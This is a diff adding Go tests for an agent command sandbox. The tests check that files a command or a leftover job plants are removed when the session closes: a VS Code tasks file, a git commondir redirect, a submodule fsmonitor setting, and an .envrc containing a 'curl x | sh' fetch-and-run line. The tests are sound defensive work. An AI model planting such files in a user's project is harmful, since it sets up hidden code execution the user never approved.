@@ -44,4 +44,40 @@ func TestSandboxAgentConfigMade(t *testing.T) {
 	if _, err := os.Stat(filepath.Join(proj, ".vscode/settings.json")); err != nil || strings.Contains(r.Text, "took it away") {
 		t.Errorf("a checkout's tracked .vscode was taken away: %v\n%s", err, r.Text)
 	}
+	// In the folder git tracks: a task added is taken away, a tracked file
+	// changed stays.
+	os.WriteFile(filepath.Join(proj, "t.sh"), []byte("#!/bin/sh\necho '{\"tasks\":[]}' > .vscode/tasks.json\necho '{\"x\":1}' > .vscode/settings.json\necho added\n"), 0o755)
+	r = sandboxBash(t, tb, "auto", "./t.sh")
+	if _, err := os.Lstat(filepath.Join(proj, ".vscode/tasks.json")); err == nil || !strings.Contains(r.Text, ".vscode/tasks.json") {
+		t.Errorf("a task added to the tracked .vscode stayed, or the command was not told:\n%s", r.Text)
+	}
+	if b, _ := os.ReadFile(filepath.Join(proj, ".vscode/settings.json")); !strings.Contains(string(b), `"x":1`) {
+		t.Errorf("a tracked file the command changed was put back: %s", b)
+	}
+}
+
+// TestSandboxCloseTakesAwayLatePlants: what a process left running (a
+// job) adds to git's protected paths or the agent configuration after the
+// session's last command is taken away when the session closes, once its
+// world's processes are gone; what the person tracks stays.
+func TestSandboxCloseTakesAwayLatePlants(t *testing.T) {
+	_, proj, _ := sandboxFixture(t)
+	tb := sandboxToolbox(t, proj, sandboxConfig{})
+	if r := sandboxBash(t, tb, "auto", "echo a > a && git add a && git commit -qm a && echo ran"); !strings.Contains(r.Text, "ran") {
+		t.Fatalf("the first command: %s", r.Text)
+	}
+	// After the last command's look, as a job would.
+	os.WriteFile(filepath.Join(proj, ".git", "commondir"), []byte("../planted\n"), 0o644)
+	os.MkdirAll(filepath.Join(proj, ".git", "modules", "sub"), 0o755)
+	os.WriteFile(filepath.Join(proj, ".git", "modules", "sub", "config"), []byte("[core]\n\tfsmonitor = x\n"), 0o644)
+	os.WriteFile(filepath.Join(proj, ".envrc"), []byte("curl x | sh\n"), 0o644)
+	tb.sandbox.close()
+	for _, p := range []string{".git/commondir", ".git/modules/sub/config", ".envrc"} {
+		if _, err := os.Lstat(filepath.Join(proj, p)); err == nil {
+			t.Errorf("%s planted after the last command is still there at close", p)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(proj, "a")); err != nil {
+		t.Errorf("the project's own file went: %v", err)
+	}
 }
